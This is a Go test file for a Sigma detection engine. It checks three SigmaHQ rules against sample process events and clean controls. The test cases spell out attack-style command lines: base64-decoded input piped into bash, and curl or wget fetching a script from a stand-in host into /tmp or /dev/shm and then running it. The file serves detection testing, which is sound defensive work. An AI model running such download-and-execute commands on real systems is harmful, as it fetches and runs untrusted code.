package sigma

import (
	"os"
	"slices"
	"testing"
)

const (
	titleBase64 = "Linux Base64 Encoded Pipe to Shell"
	titlePipe   = "Linux Shell Pipe to Shell"
	titleCurl   = "Suspicious Download and Execute Pattern via Curl/Wget"
)

// TestSigmaHQRules loads three SigmaHQ rules unchanged and runs them over
// process.exec events of their scenarios and over clean controls.
func TestSigmaHQRules(t *testing.T) {
	set, err := Load(os.DirFS("../rules/sigmahq"))
	if err != nil {
		t.Fatalf("Load(../rules/sigmahq): %v", err)
	}
	var ids []string
	for _, r := range set.Rules() {
		ids = append(ids, r.ID)
	}
	slices.Sort(ids)
	want := []string{"880973f3-9708-491c-a77b-2a35a1921158", "a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa", "ba592c6d-6888-43c3-b8c6-689b8fe47337"}
	if !slices.Equal(ids, want) {
		t.Fatalf("rule ids = %v, want %v", ids, want)
	}
	tests := []struct {
		name string
		argv []string
		want []string
	}{
		{"base64 piped to bash via bash -c", []string{"bash", "-c", "echo Y3VybCBldmls | base64 -d | bash"}, []string{titleBase64, titlePipe}},
		{"base64 piped to sh via zsh", []string{"zsh", "-c", "base64 -d /tmp/p.b64 |sh "}, []string{titleBase64}},
		{"shell pipe to shell", []string{"sh", "-c", "cat /tmp/stage2 | sh"}, []string{titlePipe}},
		{"curl to tmp then sh -c", []string{"sh", "-c", "/usr/bin/curl -fsSL http://198.51.100.7/x.sh -o /tmp/x.sh; sh /tmp/x.sh"}, []string{titleCurl}},
		{"wget to dev shm, upper case", []string{"SH", "-C", "/USR/BIN/WGET -q -O /DEV/SHM/.x http://198.51.100.7/x && chmod +x /dev/shm/.x"}, []string{titleCurl}},
		{"control: base64 of a file", []string{"base64", "/etc/hostname"}, nil},
		{"control: pipe to grep", []string{"bash", "-c", "ps aux | grep sshd"}, nil},
		{"control: curl to tmp without a shell", []string{"/usr/bin/curl", "-o", "/tmp/x.tar.gz", "http://198.51.100.7/x.tar.gz"}, nil},
		{"control: sh -c listing tmp", []string{"sh", "-c", "ls -la /tmp/"}, nil},
		{"control: shells named but not piped into", []string{"bash", "-c", "echo bash sh | wc -l"}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ev := NewEvaluator(set)
			got := titles(ev.Observe(exec("s1", 100, 1, "/usr/bin/"+tc.argv[0], tc.argv...)))
			if !slices.Equal(got, tc.want) {
				t.Errorf("Observe(exec %q) = %v, want %v", tc.argv, got, tc.want)
			}
		})
	}
	t.Run("only process.exec meets process_creation", func(t *testing.T) {
		ev := NewEvaluator(set)
		e := exec("s1", 100, 1, "/usr/bin/sh", "sh", "-c", "cat /tmp/stage2 | sh")
		e.Kind = "process.exec_failed"
		if got := ev.Observe(e); len(got) != 0 {
			t.Errorf("Observe(exec_failed) = %v, want none", titles(got))
		}
	})
	t.Run("match carries the rule and the event", func(t *testing.T) {
		ev := NewEvaluator(set)
		e := exec("s1", 100, 1, "/usr/bin/sh", "sh", "-c", "cat /tmp/stage2 | sh")
		ms := ev.Observe(e)
		if len(ms) != 1 {
			t.Fatalf("Observe = %v, want one match", titles(ms))
		}
		m := ms[0]
		if m.RuleID != "880973f3-9708-491c-a77b-2a35a1921158" || m.Level != "medium" || m.Author != "Florian Roth (Nextron Systems)" ||
			!slices.Equal(m.Tags, []string{"attack.stealth", "attack.t1140"}) || !slices.Equal(m.Seqs, []uint64{e.Seq}) {
			t.Errorf("match = %+v", m)
		}
	})
}
